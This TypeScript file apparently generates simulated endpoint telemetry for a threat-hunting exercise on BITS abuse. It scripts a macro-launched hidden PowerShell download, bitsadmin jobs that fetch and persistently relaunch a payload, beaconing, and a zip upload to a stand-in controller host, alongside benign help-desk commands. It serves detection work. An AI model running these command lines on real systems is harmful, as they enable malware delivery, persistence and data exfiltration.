// A story for the BITS hunt: a letter brings a downloader, BITS carries the payload and starts it again and again.
import { at, desks, duartesDesk, okaforsDesk, tamsin } from "./company.ts";
import type { Process } from "./recorder.ts";
import type { Stage } from "./stage.ts";

/** The payload's path; the LSASS story goes on from it. */
export const payload = "C:\\ProgramData\\ParcelTrack\\ptupdate.exe";

const controller = { address: "203.0.113.66", port: 443, name: "cdn.parcel-status.test" };
const bitsadmin = "C:\\Windows\\System32\\bitsadmin.exe";
const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

/** Records the abuse, and the help desk's honest use of the same tools, which the hunt's negations leave out. */
export function playBitsAbuse(stage: Stage): void {
	infect(stage);
	persist(stage);
	upload(stage);
	helpDesk(stage);
}

function infect(stage: Stage): void {
	const { host, user } = okaforsDesk;
	const { recorder } = stage;
	const { explorer, netsvcs } = stage.servicesOf(host);
	const letter = `C:\\Users\\${user.name}\\Downloads\\parcel-notice.docm`;
	const word = recorder.start(at("10:12:04"), host, {
		image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
		commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" "${letter}"`,
		user,
		parent: explorer,
		description: "Microsoft Word",
	});
	const source = `http://${controller.name}/pt.dat`;
	const shell = recorder.start(at("10:12:41"), host, {
		image: powershell,
		commandLine: `powershell.exe -nop -w hidden -c "Start-BitsTransfer -Source ${source} -Destination $env:TEMP\\pt.dat"`,
		user,
		parent: word,
		description: "Windows PowerShell",
	});
	recorder.load(
		at("10:12:43"),
		shell,
		"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\Modules\\BitsTransfer\\BitsTransfer.dll",
	);
	const prompt = recorder.start(at("10:13:20"), host, {
		image: "C:\\Windows\\System32\\cmd.exe",
		commandLine: `cmd.exe /c %TEMP%\\pt.cmd`,
		user,
		parent: shell,
	});
	const job = `/transfer ptjob /download /priority foreground https://${controller.name}/ptupdate.exe ${payload}`;
	runBitsadmin(stage, prompt, "10:13:22", job);
	recorder.lookUp(at("10:13:23"), netsvcs, controller.name, controller.address);
	recorder.connect(at("10:13:24"), netsvcs, controller);
	recorder.createFile(at("10:13:31"), netsvcs, payload);
}

function persist(stage: Stage): void {
	const { host } = okaforsDesk;
	const { recorder } = stage;
	const { netsvcs, explorer } = stage.servicesOf(host);
	runBitsadmin(stage, explorer, "10:20:02", "/create ParcelSync");
	runBitsadmin(stage, explorer, "10:20:03", `/addfile ParcelSync https://${controller.name}/tick %TEMP%\\tick.dat`);
	runBitsadmin(stage, explorer, "10:20:05", `/SetNotifyCmdLine ParcelSync ${payload} NUL`);
	runBitsadmin(stage, explorer, "10:20:06", "/SetMinRetryDelay ParcelSync 300");
	runBitsadmin(stage, explorer, "10:20:07", "/resume ParcelSync");
	for (const start of ["10:31:15", "12:02:40", "14:48:09"]) {
		const user = okaforsDesk.user;
		const implant = recorder.start(at(start), host, { image: payload, user, parent: netsvcs });
		for (let beacon = 0; beacon < 6; beacon++) {
			const time = at(start) + 4000 + beacon * 300_000 + (beacon % 3) * 7000;
			recorder.connect(time, implant, controller);
			recorder.permit(time + 1, implant, controller);
		}
	}
}

function upload(stage: Stage): void {
	const { host, user } = duartesDesk;
	const { recorder } = stage;
	const archive = "C:\\Users\\Public\\ship.zip";
	recorder.start(at("15:22:30"), host, {
		image: powershell,
		commandLine: `powershell.exe -nop -c "Start-BitsTransfer -TransferType Upload -Source ${archive} -Destination https://${controller.name}/in"`,
		user,
		parent: stage.servicesOf(host).explorer,
		description: "Windows PowerShell",
	});
	recorder.connect(at("15:22:34"), stage.servicesOf(host).netsvcs, controller);
}

/** What the help desk runs when updates are stuck; one for every word that the hunt leaves out. */
const checks: readonly string[] = [
	"/list /allusers /verbose",
	"/info {6c1f0a52-7d1e-4f0b-9f0c-2b6f3f3d9a11} /verbose",
	"/util /getieproxy localsystem",
	"/util /setieproxy localsystem NO_PROXY",
	"/reset /allusers",
];

function helpDesk(stage: Stage): void {
	const { recorder } = stage;
	for (const [number, { host }] of desks.entries()) {
		const hour = `${9 + number}`.padStart(2, "0");
		const parent = stage.servicesOf(host).explorer;
		const console = recorder.start(at(`${hour}:40:00`), host, { image: powershell, user: tamsin, parent });
		for (const [order, check] of checks.entries()) runBitsadmin(stage, console, `${hour}:4${order}:10`, check, tamsin);
		recorder.start(at(`${hour}:46:00`), host, {
			image: powershell,
			commandLine: 'powershell.exe -c "Import-Module BitsTransfer; Get-BitsTransfer -AllUsers | Format-Table"',
			user: tamsin,
			parent,
			description: "Windows PowerShell",
		});
	}
}

function runBitsadmin(stage: Stage, parent: Process, clock: string, options: string, user = parent.user): void {
	stage.recorder.start(at(clock), parent.host, {
		image: bitsadmin,
		commandLine: `bitsadmin.exe ${options}`,
		user,
		parent,
		description: "BITS administration utility",
	});
}
